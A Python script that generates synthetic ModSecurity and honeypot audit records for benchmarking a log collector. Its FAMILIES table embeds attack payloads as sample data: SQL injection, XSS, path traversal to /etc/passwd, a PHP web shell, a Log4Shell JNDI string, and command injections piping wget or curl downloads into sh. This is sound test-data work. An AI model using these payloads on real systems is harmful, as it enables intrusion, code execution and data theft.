#!/usr/bin/env python3
"""Generate realistic audit records for the collector benchmark.

Writes N records, one JSON object per line, in one of two layouts:

- ``probe``: webtrap probe records (docs/records.md, docs/record-schema.json),
  the body of ``POST /v1/records``;
- ``modsecurity``: libmodsecurity 3.0.9 JSON audit records, as nginx with
  libnginx-mod-http-modsecurity writes them with ``SecAuditLogFormat JSON``,
  including repeated header names as repeated JSON keys.

Each record is 1536 to 5120 bytes long (one line, without the newline). The
generator draws 1 to 10 rule messages per record, but a CRS message takes 400
to 750 bytes here, so it drops the last messages that do not fit within 5120
bytes: probe records end up with 1 to 6. Rule ids, messages, tags, severities, file
names, line numbers and operators come from the OWASP CRS rule files
(``--crs-dir``), so the messages are the ones CRS 3.3.4 writes. Sources,
methods, URIs, headers, bodies and user agents vary per record. Event ids are
UUIDv7 and unique. The same ``--seed``, count and CRS files give the same
bytes.
"""

import argparse
import base64
import calendar
import dataclasses
import glob
import hashlib
import json
import os
import random
import re
import sys
import time
import urllib.parse

MIN_BYTES = 1536
MAX_BYTES = 5120
# The first record's time is 2026-12-04 12:00:00 UTC, and each record is 3 ms later.
BASE_TIME_MS = calendar.timegm((2026, 12, 4, 12, 0, 0)) * 1000
# libmodsecurity copies a rule's operator parameter into "match", and some CRS
# regular expressions are several KiB long. Cutting them keeps more messages
# within MAX_BYTES.
MAX_OPERATOR_CHARS = 64

SEVERITY_CODES = {"EMERGENCY": "0", "ALERT": "1", "CRITICAL": "2", "ERROR": "3",
                  "WARNING": "4", "NOTICE": "5", "INFO": "6", "DEBUG": "7"}


@dataclasses.dataclass
class Rule:
    rule_id: str
    message: str
    file: str
    line: int
    variables: str
    operator: str
    tags: list
    severity: str
    version: str


def parse_crs_rules(crs_dir: str) -> list:
    """Read every SecRule with an id and a msg from the CRS rule files."""
    rules = []
    for path in sorted(glob.glob(os.path.join(crs_dir, "*.conf"))):
        with open(path, encoding="utf-8", errors="replace") as handle:
            lines = handle.read().split("\n")
        index = 0
        while index < len(lines):
            start = index
            statement = lines[index]
            while statement.endswith("\\") and index + 1 < len(lines):
                index += 1
                statement = statement[:-1] + " " + lines[index].strip()
            index += 1
            if not statement.lstrip().startswith("SecRule "):
                continue
            rule = parse_statement(statement, path, start + 1)
            if rule is not None:
                rules.append(rule)
    return rules


def parse_statement(statement: str, path: str, line: int):
    match = re.match(r'\s*SecRule\s+(\S+)\s+"((?:[^"\\]|\\.)*)"\s+"(.*)"\s*$', statement)
    if not match:
        return None
    variables, operator, actions = match.groups()
    rule_id = re.search(r"\bid:(\d+)", actions)
    message = re.search(r"\bmsg:'((?:[^'\\]|\\.)*)'", actions)
    if not rule_id or not message:
        return None
    severity = re.search(r"\bseverity:'?(\w+)'?", actions)
    version = re.search(r"\bver:'([^']*)'", actions)
    return Rule(
        rule_id=rule_id.group(1),
        message=message.group(1),
        file=path,
        line=line,
        variables=variables,
        operator=operator,
        tags=re.findall(r"\btag:'([^']*)'", actions),
        severity=SEVERITY_CODES.get(severity.group(1).upper(), "0") if severity else "0",
        version=version.group(1) if version else "OWASP_CRS/3.3.4",
    )


# Attack families: the CRS file number whose rules match, URIs and payloads.
FAMILIES = {
    "sqli": ("942", ["/index.php", "/products.php", "/search", "/api/v1/items", "/login.php"],
             ["1' OR '1'='1", "1 UNION SELECT username,password FROM users-- ",
              "1; DROP TABLE users--", "admin'-- ", "1' AND SLEEP(5)#",
              "-1 UNION ALL SELECT NULL,CONCAT(0x71,version(),0x71)-- -"]),
    "xss": ("941", ["/search", "/comment", "/guestbook.php", "/index.php"],
            ["<script>alert(document.cookie)</script>", "<img src=x onerror=alert(1)>",
             "javascript:alert(1)", "<svg/onload=confirm(1)>",
             "\"><iframe src=javascript:alert(1)>"]),
    "lfi": ("930", ["/index.php", "/download.php", "/view", "/cgi-bin/viewer"],
            ["../../../../etc/passwd", "....//....//etc/shadow", "/proc/self/environ",
             "..%2f..%2f..%2fwindows/win.ini"]),
    "rfi": ("931", ["/index.php", "/include.php"],
            ["http://198.51.100.23/shell.txt?", "ftp://203.0.113.9/x.php"]),
    "rce": ("932", ["/cgi-bin/status", "/ping.php", "/api/exec", "/shell"],
            [";cat /etc/passwd", "|wget http://198.51.100.7/x.sh -O- |sh", "$(id)",
             "`uname -a`", "; curl -s http://203.0.113.50/b | bash"]),
    "php": ("933", ["/index.php", "/upload.php", "/vendor/phpunit/src/Util/PHP/eval-stdin.php"],
            ["<?php system($_GET['c']); ?>", "php://input", "assert(base64_decode('cGhwaW5mbygpOw=='))"]),
    "java": ("944", ["/struts2/index.action", "/api/login", "/solr/admin/cores"],
             ["${jndi:ldap://198.51.100.9:1389/a}", "java.lang.Runtime.getRuntime().exec('id')",
              "%{(#_='multipart/form-data').(#cmd='id')}"]),
    "scanner": ("913", ["/wp-login.php", "/.env", "/phpmyadmin/index.php", "/.git/config",
                        "/admin/", "/actuator/health", "/server-status"], [""]),
    "protocol": ("920", ["/", "/index.html", "/favicon.ico", "/robots.txt"], [""]),
}
FAMILY_WEIGHTS = {"sqli": 24, "xss": 16, "lfi": 10, "rfi": 4, "rce": 12, "php": 8,
                  "java": 6, "scanner": 12, "protocol": 8}

USER_AGENTS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0",
    "sqlmap/1.7.2#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)",
    "curl/7.88.1",
    "python-requests/2.31.0",
    "Go-http-client/1.1",
    "Mozilla/5.0 zgrab/0.x",
    "Wget/1.21.3",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Mobile/15E148 Safari/604.1",
]
PERSONAS = [("wordpress", "WordPress 6.4", "Apache/2.4.41 (Ubuntu)"),
            ("phpmyadmin", "phpMyAdmin 5.2.1", "nginx/1.18.0"),
            ("tomcat", "Apache Tomcat 9.0.83", "Apache-Coyote/1.1"),
            ("router", "MikroTik RouterOS 7.11", "Mikrotik HttpProxy")]
PAGE_WORDS = ("<div class=\"entry\"><p>Lorem ipsum dolor sit amet, consectetur adipiscing "
              "elit, sed do eiusmod tempor incididunt ut labore et dolore magna aliqua.</p>"
              "<a href=\"/wp-content/uploads/2024/03/report.pdf\">Quarterly report</a>"
              "<form method=\"post\" action=\"/wp-login.php\"><input type=\"text\" "
              "name=\"log\" id=\"user_login\"><input type=\"password\" name=\"pwd\"></form>"
              "<script src=\"/wp-includes/js/jquery/jquery.min.js?ver=3.7.1\"></script></div>\n")


class RecordMaker:
    def __init__(self, rules: list, seed: int, sensors: int):
        self.random = random.Random(seed)
        self.by_family = {}
        for family, (prefix, _, _) in FAMILIES.items():
            matching = [r for r in rules if r.rule_id.startswith(prefix)]
            if not matching:
                raise SystemExit(f"error: no CRS rule with an id starting {prefix} in the rule files")
            self.by_family[family] = matching
        self.protocol_rules = self.by_family["protocol"]
        self.anomaly_rule = next((r for r in rules if r.rule_id == "949110"), None)
        self.sensors = [(f"sensor-{i + 1}", ("dmz", "cloud", "office")[i % 3]) for i in range(sensors)]

    def client_ip(self) -> str:
        rnd = self.random
        if rnd.random() < 0.1:
            return "2001:db8:%x:%x::%x" % (rnd.randrange(65536), rnd.randrange(65536), rnd.randrange(1, 65536))
        while True:
            first = rnd.randrange(1, 224)
            if first not in (10, 127, 172, 192, 169, 100):
                return f"{first}.{rnd.randrange(256)}.{rnd.randrange(256)}.{rnd.randrange(1, 255)}"

    def event_id(self, index: int) -> str:
        millis = BASE_TIME_MS + index * 3
        random_bits = self.random.getrandbits(42) << 32 | (index & 0xFFFFFFFF)
        value = (millis << 80) | (0x7 << 76) | ((random_bits >> 62) & 0xFFF) << 64
        value |= (0b10 << 62) | (random_bits & ((1 << 62) - 1))
        text = f"{value:032x}"
        return f"{text[:8]}-{text[8:12]}-{text[12:16]}-{text[16:20]}-{text[20:]}"

    def message(self, rule: Rule, variable: str, value: str, score: int) -> dict:
        operator = rule.operator
        name, _, parameter = operator.partition(" ")
        name = name.lstrip("!@") or "rx"
        parameter = parameter[:MAX_OPERATOR_CHARS]
        text = rule.message.replace("%{TX.ANOMALY_SCORE}", str(score)).replace("%{tx.anomaly_score}", str(score))
        return {
            "message": text,
            "details": {
                "match": f"Matched \"Operator `{name.capitalize()}' with parameter `{parameter}' against "
                         f"variable `{variable}' (Value: `{value[:80]}' )",
                "reference": f"o0,{min(len(value), 40)}v{self.random.randrange(20, 400)},{len(value)}t:urlDecodeUni",
                "ruleId": rule.rule_id,
                "file": rule.file,
                "lineNumber": str(rule.line),
                "data": f"Matched Data: {value[:40]} found within {variable}: {value[:120]}",
                "severity": rule.severity,
                "ver": rule.version,
                "rev": "",
                "tags": rule.tags,
                "maturity": "0",
                "accuracy": "0",
            },
        }

    def make(self, index: int) -> tuple:
        """Return the probe record and the libmodsecurity record for one event."""
        rnd = self.random
        family = rnd.choices(list(FAMILY_WEIGHTS), weights=list(FAMILY_WEIGHTS.values()))[0]
        _, paths, payloads = FAMILIES[family]
        path = rnd.choice(paths)
        payload = rnd.choice(payloads)
        parameter = rnd.choice(["id", "q", "page", "file", "cmd", "user", "search", "cat"])
        method = rnd.choices(["GET", "POST", "HEAD", "PUT"], weights=[60, 34, 4, 2])[0]
        query = ""
        body = ""
        if payload and method == "POST":
            body = urllib.parse.urlencode({parameter: payload, "submit": "1", "token": f"{rnd.getrandbits(64):016x}"})
        elif payload:
            query = "?" + urllib.parse.urlencode({parameter: payload, "lang": rnd.choice(["en", "de", "fr"])})
        uri = path + query
        event_id = self.event_id(index)
        millis = BASE_TIME_MS + index * 3
        seconds = millis // 1000
        micros = (millis % 1000) * 1000 + rnd.randrange(1000)
        persona, product, server = rnd.choice(PERSONAS)
        sensor_id, group = self.sensors[index % len(self.sensors)]
        client_ip = self.client_ip()
        host = rnd.choice(["shop.example", "www.example.org", "203.0.113.80", "intranet.example.net"])

        header_list = [["Host", host], ["User-Agent", rnd.choice(USER_AGENTS)],
                       ["Accept", rnd.choice(["*/*", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"])]]
        if rnd.random() < 0.5:
            header_list.append(["Accept-Language", rnd.choice(["en-US,en;q=0.5", "de-DE,de;q=0.9", "zh-CN,zh;q=0.9"])])
        if rnd.random() < 0.4:
            header_list.append(["Cookie", f"PHPSESSID={rnd.getrandbits(128):032x}; wp-settings-time-1={seconds}"])
        if rnd.random() < 0.2:
            header_list.append(["X-Forwarded-For", self.client_ip()])
            header_list.append(["X-Forwarded-For", self.client_ip()])
        if body:
            header_list.append(["Content-Type", "application/x-www-form-urlencoded"])
            header_list.append(["Content-Length", str(len(body))])
        header_list.append(["Connection", rnd.choice(["close", "keep-alive"])])

        count = rnd.choices(range(1, 11), weights=[14, 18, 18, 14, 10, 8, 6, 5, 4, 3])[0]
        family_rules = self.by_family[family]
        variable = f"ARGS:{parameter}" if payload else "REQUEST_HEADERS:User-Agent"
        value = payload or header_list[1][1]
        chosen = rnd.sample(family_rules, min(count, len(family_rules)))
        while len(chosen) < count:
            chosen.append(rnd.choice(self.protocol_rules))
        score = 5 * count
        if self.anomaly_rule is not None and count >= 2:
            chosen[-1] = self.anomaly_rule
        messages = [self.message(rule, "TX:ANOMALY_SCORE" if rule is self.anomaly_rule else variable,
                                 str(score) if rule is self.anomaly_rule else value, score)
                    for rule in chosen]
        rule_ids = list(dict.fromkeys(m["details"]["ruleId"] for m in messages))

        status = rnd.choice([200, 200, 302, 403, 404, 500])
        response_headers = {"Server": server, "Date": time.strftime("%a, %d %b %Y %H:%M:%S GMT", time.gmtime(seconds)),
                            "Content-Type": "text/html; charset=UTF-8"}
        if status == 302:
            response_headers["Location"] = "/"
        transaction = {
            "client_ip": client_ip,
            "time_stamp": time.strftime("%a %b %e %H:%M:%S %Y", time.gmtime(seconds)),
            "server_id": sensor_id,
            "client_port": rnd.randrange(1024, 65536),
            "host_ip": "127.0.0.1",
            "host_port": rnd.choice([80, 443, 8080, 8443]),
            "unique_id": event_id,
            "request": {"method": method, "http_version": 1.1, "uri": uri, "body": body,
                        "headers": joined_headers(header_list)},
            "response": {"body": "", "http_code": status, "headers": response_headers},
            "producer": {"modsecurity": "ModSecurity v3.0.9 (Linux)", "connector": "webtrap v0.1.0",
                         "secrules_engine": "DetectionOnly", "components": ["OWASP_CRS/3.3.4"]},
            "messages": messages,
        }
        body_bytes = body.encode()
        webtrap = {
            "schema_version": 1,
            "event_id": event_id,
            "@timestamp": time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(seconds)) + f".{micros:06d}Z",
            "sensor": {"id": sensor_id, "group": group},
            "persona": {"name": persona, "product": product},
            "listener": {"name": "web", "bait": rnd.random() < 0.1},
            "connection": {"id": f"c-{rnd.getrandbits(40):x}", "request_index": rnd.randrange(4)},
            "request": {"line": f"{method} {uri} HTTP/1.1", "headers": header_list, "body_size": len(body_bytes),
                        "body_sha256": hashlib.sha256(body_bytes).hexdigest() if body_bytes else "",
                        "body_truncated": False, "chunked": False},
            "parse": {"ok": True, "error": ""},
            "route": {"name": "login" if "login" in path else "not_found",
                      "kind": "login" if "login" in path else "not_found"},
            "baits": [],
            "issued_tokens": [],
            "inspection": {"status": "complete", "duration_us": rnd.randrange(300, 9000),
                           "anomaly_score": score, "rule_ids": rule_ids},
            "timings": {"headers_us": rnd.randrange(40, 400), "body_us": rnd.randrange(400, 900),
                        "response_us": rnd.randrange(900, 3000), "inspection_us": rnd.randrange(300, 9000)},
            "encoded": {},
        }
        if rnd.random() < 0.05:
            # A request line with bytes that are not UTF-8, kept in "encoded".
            webtrap["encoded"]["/webtrap/request/line"] = base64.b64encode(
                webtrap["request"]["line"].encode() + b"\xc0\xaf").decode()

        probe = {"transaction": transaction, "webtrap": webtrap}
        target = rnd.randint(MIN_BYTES, MAX_BYTES)
        probe_line = fit_to_size(probe, transaction, messages, target, rnd)
        modsecurity_line = modsecurity_layout(transaction, header_list, server)
        return probe_line, modsecurity_line


def joined_headers(header_list: list) -> dict:
    joined = {}
    spelled = {}
    for name, value in header_list:
        key = spelled.setdefault(name.lower(), name)
        joined[key] = f"{joined[key]}, {value}" if key in joined else value
    return joined


def dumps(value) -> str:
    return json.dumps(value, separators=(",", ":"), ensure_ascii=False)


def fit_to_size(probe: dict, transaction: dict, messages: list, target: int, rnd) -> str:
    """Pad the response body (the persona page) so the line is about target bytes.

    Drops trailing messages first when the record is already longer than
    MAX_BYTES, so every record stays within the size range.
    """
    line = dumps(probe)
    if len(line.encode()) > MAX_BYTES:
        # Short "match" texts first, as libinjection rules write them.
        for message in messages:
            details = message["details"]
            details["match"] = details["match"].split(" against ")[0][:48]
            details["data"] = details["data"][:60]
        line = dumps(probe)
    while len(line.encode()) > MAX_BYTES and len(messages) > 1:
        messages.pop()
        probe["webtrap"]["inspection"]["rule_ids"] = list(dict.fromkeys(m["details"]["ruleId"] for m in messages))
        line = dumps(probe)
    missing = target - len(line.encode())
    if missing > 0:
        offset = rnd.randrange(len(PAGE_WORDS))
        page = (PAGE_WORDS * (missing // len(PAGE_WORDS) + 2))[offset:]
        # Each "\n" and '"' grows by one byte when escaped, so cut by the escaped size.
        body = page[:missing]
        while len(dumps(body)) - 2 > missing:
            body = body[:-1]
        transaction["response"]["body"] = body
        line = dumps(probe)
    return line


def modsecurity_layout(transaction: dict, header_list: list, server: str) -> str:
    """Write the libmodsecurity 3.0.9 layout, with one JSON key per header field.

    Repeated header names become repeated keys, as libmodsecurity writes them,
    so this is built by hand around json.dumps of each value.
    """
    request = transaction["request"]
    headers = ",".join(f"{dumps(name)}:{dumps(value)}" for name, value in header_list)
    parts = [f'"{key}":{dumps(transaction[key])}'
             for key in ("client_ip", "time_stamp", "client_port", "host_ip", "host_port")]
    parts.insert(2, f'"server_id":{dumps(hashlib.sha1(transaction["server_id"].encode()).hexdigest())}')
    parts.append(f'"unique_id":{dumps(transaction["unique_id"])}')
    parts.append('"request":{' + f'"method":{dumps(request["method"])},"http_version":1.1,'
                 f'"uri":{dumps(request["uri"])},"body":{dumps(request["body"])},"headers":{{{headers}}}' + "}")
    parts.append(f'"response":{dumps(transaction["response"])}')
    producer = dict(transaction["producer"], connector="ModSecurity-nginx v1.0.3")
    parts.append(f'"producer":{dumps(producer)}')
    parts.append(f'"messages":{dumps(transaction["messages"])}')
    return '{"transaction":{' + ",".join(parts) + "}}"


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--count", type=int, default=200000, help="number of records")
    parser.add_argument("--seed", type=int, default=1, help="seed of the pseudo-random generator")
    parser.add_argument("--sensors", type=int, default=4, help="number of distinct sensor ids")
    parser.add_argument("--crs-dir", default="/usr/share/modsecurity-crs/rules",
                        help="folder of the OWASP CRS *.conf rule files")
    parser.add_argument("--probe-output", help="write probe records (NDJSON) to this file")
    parser.add_argument("--modsecurity-output", help="write libmodsecurity 3.0.9 records (NDJSON) to this file")
    args = parser.parse_args()
    if not args.probe_output and not args.modsecurity_output:
        parser.error("give --probe-output, --modsecurity-output or both")
    if args.count < 1:
        parser.error(f"--count {args.count} is invalid: give 1 or more")
    rules = parse_crs_rules(args.crs_dir)
    if not rules:
        raise SystemExit(f"error: no SecRule with an id and a msg found in {args.crs_dir}/*.conf; "
                         "install modsecurity-crs or pass --crs-dir")
    maker = RecordMaker(rules, args.seed, args.sensors)
    probe_file = open(args.probe_output, "w", encoding="utf-8") if args.probe_output else None
    modsecurity_file = open(args.modsecurity_output, "w", encoding="utf-8") if args.modsecurity_output else None
    sizes = []
    for index in range(args.count):
        probe_line, modsecurity_line = maker.make(index)
        sizes.append(len(probe_line.encode()))
        if probe_file:
            probe_file.write(probe_line + "\n")
        if modsecurity_file:
            modsecurity_file.write(modsecurity_line + "\n")
    for handle in (probe_file, modsecurity_file):
        if handle:
            handle.close()
    print(json.dumps({"records": args.count, "rules_available": len(rules),
                      "probe_bytes_min": min(sizes), "probe_bytes_max": max(sizes),
                      "probe_bytes_mean": round(sum(sizes) / len(sizes))}), file=sys.stderr)
    return 0


if __name__ == "__main__":
    sys.exit(main())
